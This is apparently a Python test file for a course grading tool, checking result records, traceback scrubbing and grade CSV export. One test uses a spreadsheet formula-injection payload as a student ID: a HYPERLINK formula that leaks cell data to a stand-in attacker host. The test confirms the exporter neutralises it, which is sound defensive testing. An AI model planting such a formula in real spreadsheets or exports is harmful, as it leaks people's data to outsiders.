"""results: atomic records, scrubbing, the CSV (blank for ungraded, never a silent 0)."""

from __future__ import annotations

import csv

from labkit_course.grading.results import Record, read_records, scrub, write_grades_csv, write_record


def test_record_roundtrip_and_totals(tmp_path):
    rec = Record("ann", "graded", {"q1_a": None, "q2_t": 2.0}, {"q1_a": 5.0, "q2_t": 2.0})
    write_record(rec, tmp_path)
    back = read_records(tmp_path)["ann"]
    assert back == rec and back.total == 2.0 and back.max_total == 7.0
    assert not list(tmp_path.glob(".*.tmp"))


def test_scrub_removes_hidden_lines_only():
    hidden = ['assert f(3) == 9, "nine"', "x"]
    text = 'Traceback: assert f(3) == 9, "nine"\nAssertionError: nine\nx marks'
    assert scrub(text, hidden) == "Traceback: [hidden test]\nAssertionError: nine\nx marks"


def test_grades_csv(tmp_path):
    recs = {"b": Record("b", "crashed", {"q1_a": None, "q2_t": 0.0}, {"q1_a": 5.0, "q2_t": 2.0}),
            "a": Record("a", "graded", {"q1_a": 4.0, "q2_t": 2.0}, {"q1_a": 5.0, "q2_t": 2.0})}
    write_grades_csv(recs, {"q1": ["q1_a"], "q2": ["q2_t"]}, {"q1": 5, "q2": 2}, tmp_path / "g.csv")
    rows = list(csv.reader(open(tmp_path / "g.csv")))
    assert rows == [["student", "status", "total", "max_total", "q1", "q2"],
                    ["a", "graded", "6", "7", "4", "2"], ["b", "crashed", "0", "7", "", "0"]]


def test_grades_csv_has_one_column_per_test_cell_in_the_order_given(tmp_path):
    cols = {"q1": ["q1_a"], "q2": ["q2_t", "q2_u"]}
    tests = ["q2_t", "q2_u"]  # notebook order, after the question columns
    a = Record("a", "graded", {"q1_a": None, "q2_u": 1.0, "q2_t": 2.0}, {"q1_a": 5.0, "q2_t": 2.0, "q2_u": 3.0})
    b = Record("b", "crashed", {"q2_t": 0.0}, {"q1_a": 5.0, "q2_t": 2.0, "q2_u": 3.0})
    write_grades_csv({"b": b, "a": a}, cols, {"q1": 5, "q2": 5}, tmp_path / "one.csv", tests)
    write_grades_csv({"a": a, "b": b}, cols, {"q1": 5, "q2": 5}, tmp_path / "two.csv", tests)
    rows = list(csv.reader(open(tmp_path / "one.csv")))
    assert rows == [["student", "status", "total", "max_total", "q1", "q2", "q2_t", "q2_u"],
                    ["a", "graded", "3", "10", "", "3", "2", "1"],
                    ["b", "crashed", "0", "10", "", "0", "0", ""]]
    assert (tmp_path / "one.csv").read_bytes() == (tmp_path / "two.csv").read_bytes()  # stable


def test_grades_csv_cells_never_start_like_a_formula_and_scores_stay_numbers(tmp_path):
    # a roster id is written as the roster has it; ids from file names never start so
    evil = '=HYPERLINK("http://attacker.invalid/?leak="&A3,"x")'
    recs = {evil: Record(evil, "missing", {"q1_a": None}, {"q1_a": 5.0}),
            "@SUM(1)": Record("@SUM(1)", "graded", {"q1_a": 4.5}, {"q1_a": 5.0}),
            "李雷": Record("李雷", "graded", {"q1_a": 5.0}, {"q1_a": 5.0})}
    write_grades_csv(recs, {"q1": ["q1_a"]}, {"q1": 5}, tmp_path / "g.csv", ["q1_a"])
    rows = list(csv.reader(open(tmp_path / "g.csv", encoding="utf-8")))
    assert rows[1:] == [["'" + evil, "missing", "0", "5", "", ""],
                        ["'@SUM(1)", "graded", "4.5", "5", "4.5", "4.5"],
                        ["李雷", "graded", "5", "5", "5", "5"]]


def test_a_long_id_keeps_its_name_in_the_record_and_gets_a_short_file_name(tmp_path):
    from labkit_course.grading.names import safe_name

    long_id = "é" * 200
    path = write_record(Record(long_id, "graded"), tmp_path)
    assert path.name == safe_name(long_id) + ".json" and len(path.name.encode()) < 100
    assert read_records(tmp_path)[long_id].student == long_id
